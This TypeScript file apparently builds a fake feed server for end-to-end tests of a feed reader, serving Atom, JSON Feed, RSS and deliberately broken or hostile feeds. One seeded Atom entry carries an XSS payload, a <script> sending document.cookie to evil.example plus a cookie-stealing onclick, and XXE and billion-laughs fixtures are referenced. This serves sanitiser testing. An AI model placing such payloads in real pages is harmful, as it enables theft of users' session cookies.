import { readFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { sendCacheable, type FakeHandler, type FakeServer } from "./server";

/**
 * Feeds and blogs as real web servers serve them: every response with an ETag and Last-Modified
 * (304 to a conditional request), feeds that change when a test adds or edits entries, and the
 * troublemakers real feeds include.
 *
 * Paths (all under the fake server's origin):
 * - /feeds/ana.atom       "Ana's notes", the default seeded blog for end-to-end runs: Atom 1.0, author
 *                         "Ana Ribeiro", xml:base `/ana/` with relative links, an html subtitle with an
 *                         emoji, 3 entries: "Seed swap on Saturday 🌻" (html with a <script> and an
 *                         onclick), "Compost, week 6" (xhtml, edited a day later, a photo enclosure),
 *                         "Hello from the garden" (plain text).
 * - /feeds/jun.json       "Jun's microblog", JSON Feed 1.1: author 朴준 with an avatar, title-less posts,
 *                         a photo attachment, one post with no date at all.
 * - /feeds/zoe.rss        "Zoë's log", WordPress-style RSS 2.0 (content:encoded, dc:creator, an image,
 *                         an audio enclosure, a title-less photo post, javascript: links, an iframe).
 * - /feeds/koi8r.xml      RSS in KOI8-R, the charset named only in the XML declaration.
 * - /feeds/truncated.xml, /feeds/broken.json (cut short), /feeds/empty.xml (200, no body),
 *   /feeds/not-a-feed.json (JSON, not a feed), /feeds/xxe.xml (external entity), /feeds/billion-laughs.xml.
 * - /ana/                 Ana's home page (HTML with a feed link and an h-card): a web page, not a feed.
 * - /feeds/moved-302.atom → 302 to /feeds/ana.atom; /feeds/moved-307.rss → 307 to /feeds/zoe.rss.
 * - /feeds/gone.xml       410; any other /feeds/… path 404.
 * Any feed in `state.feeds` can be answered with another status by setting its `status`.
 */

export interface FakeFeedEntry {
  id: string;
  title?: string;
  /** A path (resolved against the feed's base) or an absolute URL. */
  link?: string;
  html?: string;
  text?: string;
  /** ISO 8601; omit for an undated entry. */
  published?: string;
  updated?: string;
  enclosures?: { url: string; type: string; title?: string }[];
}

export interface FakeFeed {
  format: "atom" | "json";
  title: string;
  authorName?: string;
  authorAvatar?: string;
  /** Path of the home page. */
  homePage?: string;
  /** Path or URL, relative to the feed's base. */
  icon?: string;
  /** Atom: an html subtitle; JSON Feed: the description. */
  description?: string;
  /** Atom: the feed's xml:base, as a path. */
  xmlBase?: string;
  /** Newest first, as feeds list them. */
  entries: FakeFeedEntry[];
  lastModified: Date;
  /** Answer this status instead of the feed (404, 410…). */
  status?: number;
}

export interface FakeFeedsState {
  /** By file name: served at /feeds/<name>. */
  feeds: Record<string, FakeFeed>;
  /** Temporary redirects, by path. */
  redirects: Record<string, { status: 302 | 307; location: string }>;
  /** Adds an entry at the top of a feed and bumps its Last-Modified. */
  addEntry(feed: string, entry: FakeFeedEntry): void;
  /** Changes an entry in place and bumps the feed's Last-Modified. */
  editEntry(feed: string, id: string, changes: Partial<FakeFeedEntry>): void;
}

const FIXTURES = new URL("./fixtures/feeds/", import.meta.url);
const STATIC_DATE = new Date("2025-06-03T10:00:00Z");

function fixture(name: string): string {
  return readFileSync(new URL(name, FIXTURES), "utf8");
}

function anaFeed(): FakeFeed {
  return {
    format: "atom",
    title: "Ana's notes",
    authorName: "Ana Ribeiro",
    homePage: "/ana/",
    icon: "avatar.png",
    description: "Gardens, code &amp; <em>slow</em> mornings 🌱",
    xmlBase: "/ana/",
    lastModified: new Date("2025-05-10T09:00:00Z"),
    entries: [
      {
        id: "tag:ana.example,2025:notes/3",
        title: "Seed swap on Saturday 🌻",
        link: "2025/05/seed-swap",
        html: `<p>Bring seeds, take seeds. <a href="swap.html" onclick="steal(document.cookie)">Details</a></p><script>fetch("https://evil.example/?c=" + document.cookie)</script><p>See you there!</p>`,
        published: "2025-05-10T09:00:00Z",
        updated: "2025-05-10T09:00:00Z",
      },
      {
        id: "tag:ana.example,2025:notes/2",
        title: "Compost, week 6",
        link: "2025/04/compost-week-6",
        html: `<div xmlns="http://www.w3.org/1999/xhtml"><p>Turned <a href="../compost/">the bin</a> again. Warm &amp; steaming.</p></div>`,
        published: "2025-04-02T18:30:00+01:00",
        updated: "2025-04-03T08:00:00Z",
        enclosures: [{ url: "photos/compost.jpg", type: "image/jpeg", title: "The bin in April" }],
      },
      {
        id: "tag:ana.example,2025:notes/1",
        title: "Hello from the garden",
        link: "2025/03/hello",
        text: "Hello from the garden! First post here.\n\nMore soon.",
        published: "2025-03-01T07:15:00Z",
        updated: "2025-03-01T07:15:00Z",
      },
    ],
  };
}

function junFeed(): FakeFeed {
  return {
    format: "json",
    title: "Jun's microblog",
    authorName: "朴준",
    authorAvatar: "/jun/avatar.jpg",
    homePage: "/jun/",
    description: "짧은 글 — short notes 🐢",
    lastModified: new Date("2025-06-01T12:00:00Z"),
    entries: [
      { id: "jun-3", text: "Tea, rain, a good book. 🍵", link: "/jun/3" },
      {
        id: "jun-2",
        html: `<p>Found this <a href="/jun/turtle">turtle</a> by the river.</p>`,
        link: "/jun/2",
        published: "2025-05-31T07:00:00+09:00",
        enclosures: [{ url: "/jun/turtle.jpg", type: "image/jpeg", title: "A small turtle on a rock" }],
      },
      { id: "jun-1", title: "Moving my notes here", text: "Moving my notes here from the old site.", link: "/jun/1", published: "2025-05-20T10:00:00+09:00", updated: "2025-05-20T10:00:00+09:00" },
    ],
  };
}

function escapeXml(text: string): string {
  return text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
}

function renderAtom(feed: FakeFeed, origin: string, self: string): string {
  const entries = feed.entries.map((entry) => {
    const content = entry.html?.startsWith("<div xmlns") ? `<content type="xhtml">${entry.html}</content>` : entry.html ? `<content type="html">${escapeXml(entry.html)}</content>` : entry.text ? `<content type="text">${escapeXml(entry.text)}</content>` : "";
    return [
      "  <entry>",
      `    <id>${escapeXml(entry.id)}</id>`,
      entry.title === undefined ? "" : `    <title>${escapeXml(entry.title)}</title>`,
      entry.link ? `    <link rel="alternate" type="text/html" href="${escapeXml(entry.link)}"/>` : "",
      ...(entry.enclosures ?? []).map((enclosure) => `    <link rel="enclosure" type="${escapeXml(enclosure.type)}" href="${escapeXml(enclosure.url)}"${enclosure.title ? ` title="${escapeXml(enclosure.title)}"` : ""}/>`),
      entry.published ? `    <published>${entry.published}</published>` : "",
      entry.updated ?? entry.published ? `    <updated>${entry.updated ?? entry.published}</updated>` : "",
      `    ${content}`,
      "  </entry>",
    ]
      .filter((line) => line.trim() !== "")
      .join("\n");
  });
  return [
    `<?xml version="1.0" encoding="utf-8"?>`,
    `<feed xmlns="http://www.w3.org/2005/Atom"${feed.xmlBase ? ` xml:base="${escapeXml(origin + feed.xmlBase)}"` : ""} xml:lang="en">`,
    `  <title type="text">${escapeXml(feed.title)}</title>`,
    feed.description ? `  <subtitle type="html">${escapeXml(feed.description)}</subtitle>` : "",
    feed.homePage ? `  <link rel="alternate" type="text/html" href="${escapeXml(origin + feed.homePage)}"/>` : "",
    `  <link rel="self" type="application/atom+xml" href="${escapeXml(self)}"/>`,
    `  <id>tag:${escapeXml(feed.title)}</id>`,
    `  <updated>${feed.lastModified.toISOString()}</updated>`,
    feed.authorName ? `  <author><name>${escapeXml(feed.authorName)}</name></author>` : "",
    feed.icon ? `  <icon>${escapeXml(feed.icon)}</icon>` : "",
    ...entries,
    "</feed>",
    "",
  ]
    .filter((line) => line !== "")
    .join("\n");
}

function renderJson(feed: FakeFeed, origin: string, self: string): string {
  const absolute = (path: string | undefined) => (path === undefined ? undefined : new URL(path, origin).href);
  return JSON.stringify(
    {
      version: "https://jsonfeed.org/version/1.1",
      title: feed.title,
      home_page_url: absolute(feed.homePage),
      feed_url: self,
      description: feed.description,
      authors: feed.authorName ? [{ name: feed.authorName, avatar: absolute(feed.authorAvatar) }] : undefined,
      items: feed.entries.map((entry) => ({
        id: entry.id,
        url: absolute(entry.link),
        title: entry.title,
        content_html: entry.html,
        content_text: entry.text,
        date_published: entry.published,
        date_modified: entry.updated,
        attachments: entry.enclosures?.map((enclosure) => ({ url: absolute(enclosure.url), mime_type: enclosure.type, title: enclosure.title })),
      })),
    },
    null,
    2,
  );
}

/** KOI8-R bytes for a string of ASCII and Cyrillic (the table inverted from the platform's decoder). */
function encodeKoi8r(text: string): Buffer {
  const decoder = new TextDecoder("koi8-r");
  const table = new Map<string, number>();
  for (let byte = 0x80; byte <= 0xff; byte++) table.set(decoder.decode(Uint8Array.of(byte)), byte);
  return Buffer.from([...text].map((char) => (char.charCodeAt(0) < 0x80 ? char.charCodeAt(0) : (table.get(char) ?? 0x3f))));
}

function koi8rFeed(origin: string): Buffer {
  return encodeKoi8r(`<?xml version="1.0" encoding="KOI8-R"?>
<rss version="2.0">
<channel>
<title>Заметки Алёны</title>
<link>${origin}/alyona/</link>
<description>Пишу о книгах и чае</description>
<item>
<title>Как перевести книгу</title>
<link>${origin}/alyona/kniga</link>
<guid>${origin}/alyona/kniga</guid>
<pubDate>Sun, 01 Jun 2025 18:00:00 +0300</pubDate>
<description>Здравствуйте, друзья! Сегодня о переводе.</description>
</item>
</channel>
</rss>
`);
}

export function fakeFeeds(): { handler: FakeHandler; state: FakeFeedsState } {
  const state: FakeFeedsState = {
    feeds: { "ana.atom": anaFeed(), "jun.json": junFeed() },
    redirects: {
      "/feeds/moved-302.atom": { status: 302, location: "/feeds/ana.atom" },
      "/feeds/moved-307.rss": { status: 307, location: "/feeds/zoe.rss" },
    },
    addEntry(name, entry) {
      const feed = state.feeds[name];
      if (!feed) throw new Error(`No fake feed ${name}`);
      feed.entries.unshift(entry);
      feed.lastModified = new Date(Math.max(Date.now(), feed.lastModified.getTime() + 1000));
    },
    editEntry(name, id, changes) {
      const entry = state.feeds[name]?.entries.find((candidate) => candidate.id === id);
      if (!entry) throw new Error(`No entry ${id} in fake feed ${name}`);
      Object.assign(entry, changes);
      const feed = state.feeds[name];
      if (feed) feed.lastModified = new Date(Math.max(Date.now(), feed.lastModified.getTime() + 1000));
    },
  };

  const statics: Record<string, (origin: string) => { body: string | Buffer; type: string }> = {
    "/feeds/zoe.rss": (origin) => ({ body: fixture("zoe.rss").replaceAll("{{origin}}", origin), type: "application/rss+xml; charset=utf-8" }),
    "/feeds/koi8r.xml": (origin) => ({ body: koi8rFeed(origin), type: "application/rss+xml" }),
    "/feeds/truncated.xml": (origin) => ({ body: fixture("truncated.xml").replaceAll("{{origin}}", origin), type: "application/rss+xml; charset=utf-8" }),
    "/feeds/broken.json": () => ({ body: fixture("broken.json"), type: "application/feed+json" }),
    "/feeds/not-a-feed.json": () => ({ body: fixture("not-a-feed.json"), type: "application/json" }),
    "/feeds/empty.xml": () => ({ body: "", type: "application/rss+xml" }),
    "/feeds/xxe.xml": (origin) => ({ body: fixture("xxe.xml").replaceAll("{{origin}}", origin), type: "application/rss+xml; charset=utf-8" }),
    "/feeds/billion-laughs.xml": (origin) => ({ body: fixture("billion-laughs.xml").replaceAll("{{origin}}", origin), type: "application/atom+xml; charset=utf-8" }),
    "/ana/": () => ({ body: fixture("ana-home.html"), type: "text/html; charset=utf-8" }),
  };

  const handler: FakeHandler = (request: IncomingMessage, response: ServerResponse, url: URL, server: FakeServer) => {
    const path = url.pathname;
    const redirect = state.redirects[path];
    if (redirect) {
      response.writeHead(redirect.status, { location: redirect.location, "content-type": "text/html; charset=utf-8" }).end("<html><head><title>Moved</title></head><body>This page has moved</body></html>");
      return true;
    }
    const fixed = statics[path];
    if (fixed) {
      const { body, type } = fixed(server.origin);
      sendCacheable(request, response, body, type, { lastModified: STATIC_DATE });
      return true;
    }
    if (!path.startsWith("/feeds/")) return false;
    const feed = state.feeds[path.slice("/feeds/".length)];
    if (path === "/feeds/gone.xml") {
      response.writeHead(410, { "content-type": "text/html; charset=utf-8" }).end("<h1>Gone</h1>");
      return true;
    }
    if (!feed) {
      response.writeHead(404, { "content-type": "text/html; charset=utf-8" }).end("<h1>Not Found</h1>");
      return true;
    }
    if (feed.status && feed.status !== 200) {
      response.writeHead(feed.status, { "content-type": "text/html; charset=utf-8" }).end(`<h1>${feed.status}</h1>`);
      return true;
    }
    if (feed.format === "atom") sendCacheable(request, response, renderAtom(feed, server.origin, server.origin + path), "application/atom+xml; charset=utf-8", { lastModified: feed.lastModified });
    else sendCacheable(request, response, renderJson(feed, server.origin, server.origin + path), "application/feed+json; charset=utf-8", { lastModified: feed.lastModified });
    return true;
  };

  return { handler, state };
}
